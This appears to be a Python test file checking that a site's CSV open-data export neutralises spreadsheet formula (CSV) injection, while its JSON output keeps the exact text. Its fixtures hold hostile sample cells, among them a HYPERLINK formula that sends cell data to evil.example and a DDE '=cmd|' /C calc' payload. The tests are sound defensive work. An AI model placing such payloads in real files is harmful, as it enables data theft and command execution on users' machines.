"""The open data's CSV files are safe to open in a spreadsheet; its JSON keeps the exact text.

Anyone who can commit content can name an actor ``=HYPERLINK(...)``: a spreadsheet opening
``actors.csv`` would run it (CSV injection). Every cell the build writes goes through one
encoder, ``spreadsheet_cell``, which gives text that a spreadsheet would take for a formula
a leading ``'`` and leaves the model's numbers as numbers.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from pathlib import Path

import pytest
from conftest import Project, build_project_site, write_minimal_article
from hypothesis import given
from hypothesis import strategies as st

from build_tools.site.opendata import FORMULA_TRIGGERS, spreadsheet_cell

TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
"""OWASP's list: = + - @, tab, carriage return, and the full-width = + - @."""
TRIGGER = "[" + "".join(re.escape(character) for character in sorted(TRIGGERS)) + "]"
SPACES = st.text(alphabet=" \u00a0\u3000\n", max_size=3)
"""White space a spreadsheet may trim before it reads a formula."""


def test_the_triggers_are_owasps() -> None:
    assert FORMULA_TRIGGERS == TRIGGERS


@given(SPACES, st.sampled_from(sorted(TRIGGERS)), st.text())
def test_text_that_a_spreadsheet_would_run_is_marked_as_text(space: str, trigger: str, rest: str) -> None:
    text = space + trigger + rest
    assert spreadsheet_cell(text) == "'" + text


@given(st.text())
def test_other_text_is_left_exactly_as_it_is(text: str) -> None:
    dangerous = re.match(r"[^\S\t\r]*" + TRIGGER, text) is not None
    assert spreadsheet_cell(text) == ("'" + text if dangerous else text)
    assert str(spreadsheet_cell(text))[:1] not in TRIGGERS


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_of_the_model_stay_numbers_negative_ones_included(number: float) -> None:
    assert spreadsheet_cell(number) == number
    cell = next(csv.reader([_written(number)]))[0]
    assert cell == str(number) and float(cell) == float(number)  # unquoted, read back as the number


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (True, "True"), (-0.5, -0.5), (-3, -3),
                                             (math.inf, "inf"), (-math.inf, "'-inf"), ("-0.5", "'-0.5")])
def test_what_is_not_a_finite_number_of_the_model_is_text(value: object, cell: object) -> None:
    """Text that only looks like a number is text: the model says which columns hold numbers."""
    assert spreadsheet_cell(value) == cell


def _written(value: object) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([spreadsheet_cell(value)])
    return buffer.getvalue()


NAMES = {
    "actors/army": {"ar": "=جيش", "en": "=HYPERLINK(\"https://evil.example/?\"&A1, \"Army\")"},
    "actors/group": {"ar": "@جماعة", "en": "+Group"},
    "locations/town": {"ar": "-بلدة", "en": " =1+1 Town"},
    "sources/agency": {"ar": "\uff1dوكالة", "en": "\uff20Agency"},
    "tags/tag": {"ar": "\uff0bوسم", "en": "\uff0dtag"},
}
TITLE = {"ar": "-عنوان", "en": "=cmd|' /C calc'!A0"}
NOTE = {"ar": "@ملاحظة", "en": "-2 killed; =SUM(1,2)"}
NUMERIC_COLUMNS = {"lat", "lon", "latitude", "longitude", "time_precision", "date_prec", "geo_precision",
                   "where_prec", "fatalities", "best", "low", "high"}


def _quoted(names: dict[str, str]) -> str:
    return "{ar: " + json.dumps(names["ar"], ensure_ascii=False) + ", en: " + json.dumps(names["en"],
                                                                                      ensure_ascii=False) + "}"


def _write_project(project: Project) -> None:
    """Every name, title and note begins with a formula trigger; the place is at (-0.5, -40.25)."""
    fields = {"actors/army": "type: armed-forces\n", "actors/group": "type: armed-group\n",
              "locations/town": "kind: city\ncoordinates: {lat: -0.5, lon: -40.25}\n",
              "sources/agency": "kind: news-agency\n", "tags/tag": ""}
    for entry, names in NAMES.items():
        project.write(f"content/{entry}.yml", f"name: {_quoted(names)}\n{fields[entry]}")
    event = ("  - date: 2017-09-05\n    type: battles\n    sub_type: armed-clash\n    location: town\n"
             "    actors: {side_a: [army], side_b: [group]}\n    fatalities: {best: 3, low: 1, high: 5}\n"
             f"    sources: [agency]\n    note: {_quoted(NOTE)}\n")
    write_minimal_article(
        project, slug="2017-09-05-report",
        meta="date: 2017-09-05\nstatus: published\nactors: [army, group]\nlocations: [town]\ntags: [tag]\n"
             f"sources: [{{source: agency}}]\nevents:\n{event}",
        ar=f"---\ntitle: {json.dumps(TITLE['ar'], ensure_ascii=False)}\n---\nنص.\n",
        en=f"---\ntitle: {json.dumps(TITLE['en'])}\n---\nText.\n")


@pytest.fixture(scope="module")
def data(tmp_path_factory) -> Path:
    """The open data of a site built from the hostile content."""
    return build_project_site(tmp_path_factory, "csv", _write_project) / "data"


def _rows(data: Path, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((data / name).read_text(encoding="utf-8"))))


def test_no_cell_of_any_csv_file_is_a_formula(data: Path) -> None:
    """Every CSV file the build writes, every column: a cell begins with a trigger only in
    a numeric column, and is then a number."""
    files = sorted(data.glob("*.csv"))
    assert [path.name for path in files] == ["actors.csv", "articles.csv", "events.csv", "locations.csv",
                                             "sources.csv", "tags.csv"]
    for path in files:
        for row in _rows(data, path.name):
            for column, cell in row.items():
                if column in NUMERIC_COLUMNS and cell:
                    float(cell)
                else:
                    assert not re.match(r"\s*" + TRIGGER, cell), (path.name, column, cell)


def test_each_hostile_text_is_the_same_text_after_its_mark(data: Path) -> None:
    def marked(text: str) -> str:
        return "'" + text

    actors = {row["id"]: row for row in _rows(data, "actors.csv")}
    assert (actors["army"]["name_ar"], actors["army"]["name_en"]) == tuple(
        marked(NAMES["actors/army"][lang]) for lang in ("ar", "en"))
    assert actors["group"]["name_ar"] == marked("@جماعة")
    [town] = _rows(data, "locations.csv")
    assert (town["name_ar"], town["name_en"], town["lat"], town["lon"]) == ("'-بلدة", "' =1+1 Town", "-0.5", "-40.25")
    [tag] = _rows(data, "tags.csv")
    assert (tag["name_ar"], tag["name_en"]) == ("'\uff0bوسم", "'\uff0dtag")
    [source] = _rows(data, "sources.csv")
    assert (source["name_ar"], source["name_en"]) == ("'\uff1dوكالة", "'\uff20Agency")
    [article] = _rows(data, "articles.csv")
    assert (article["title_ar"], article["title_en"]) == ("'-عنوان", "'=cmd|' /C calc'!A0")
    [event] = _rows(data, "events.csv")
    assert (event["actor1"], event["actor2"], event["location"], event["source"]) == (
        marked(NAMES["actors/army"]["en"]), "'+Group", "' =1+1 Town", "'\uff20Agency")
    assert (event["notes"], event["notes_ar"]) == ("'-2 killed; =SUM(1,2)", "'@ملاحظة")
    assert (event["latitude"], event["longitude"], event["fatalities"], event["low"]) == ("-0.5", "-40.25", "3", "1")


def test_the_json_open_data_keeps_the_exact_text(data: Path) -> None:
    def named(name: str) -> dict[str, dict[str, object]]:
        return {record["id"]: record for record in json.loads((data / name).read_text(encoding="utf-8"))}

    for entry, names in NAMES.items():
        kind, id_ = entry.split("/")
        assert named(f"{kind}.json")[id_]["name"] == names
    [article] = json.loads((data / "articles.json").read_text(encoding="utf-8"))
    assert article["title"] == TITLE
    [event] = json.loads((data / "events.json").read_text(encoding="utf-8"))
    assert (event["actor1"], event["notes"], event["notes_ar"], event["latitude"]) == (
        NAMES["actors/army"]["en"], NOTE["en"], NOTE["ar"], -0.5)
    [feature] = json.loads((data / "locations.geojson").read_text(encoding="utf-8"))["features"]
    assert (feature["properties"]["name_en"], feature["geometry"]["coordinates"]) == (" =1+1 Town", [-40.25, -0.5])
